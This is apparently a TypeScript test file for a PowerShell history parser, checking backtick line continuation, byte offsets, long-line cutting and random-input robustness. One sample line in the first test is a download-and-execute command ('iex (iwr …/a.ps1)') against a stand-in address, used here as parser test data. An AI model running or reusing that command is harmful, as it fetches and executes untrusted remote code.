import assert from 'node:assert/strict'
import { test } from 'node:test'

import * as fc from 'fast-check'

import { memorySource } from '../source.ts'
import { powershellHistory } from './index.ts'

function read(text: string | Uint8Array): string[] {
  return [...powershellHistory(memorySource(Buffer.from(text)))].map(({ command }) => command)
}

test('a line is a command; one that ends with a backtick goes on', () => {
  const text = '\ufeffGet-Process\r\niex (iwr `\r\n  http://192.0.2.1/a.ps1)\r\n\r\nWrite-Host "안녕"\nlast`'
  const found = [...powershellHistory(memorySource(Buffer.from(text)))]
  assert.deepEqual(found, [
    { line: 1, offset: 3, command: 'Get-Process' },
    { line: 2, offset: 16, command: 'iex (iwr \n  http://192.0.2.1/a.ps1)' },
    { line: 5, offset: Buffer.from(text).indexOf('Write'), command: 'Write-Host "안녕"' },
    { line: 6, offset: Buffer.from(text).indexOf('last'), command: 'last' },
  ])
})

test('lines over the borders of pieces are whole, and one without end is cut', () => {
  const long = 'x'.repeat(70_000)
  const lines = Array.from({ length: 200_000 }, (_, index) => `Get-Item ${index}`)
  assert.deepEqual(read(lines.join('\n')), lines)
  const [only, ...others] = powershellHistory(memorySource(Buffer.from(long)))
  assert.equal(only?.command.length, 65_536)
  assert.equal(only?.isCut, true)
  assert.equal(others.length, 0)
})

test('whatever the bytes are, every line that holds something is told once', () => {
  fc.assert(
    fc.property(fc.array(fc.stringMatching(/^[a-z ]{1,20}$/), { maxLength: 50 }), (lines) => {
      assert.deepEqual(read(lines.join('\r\n')), lines)
    }),
  )
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 3000 }), (bytes) => {
      assert.ok(read(bytes).length <= bytes.length)
    }),
  )
})
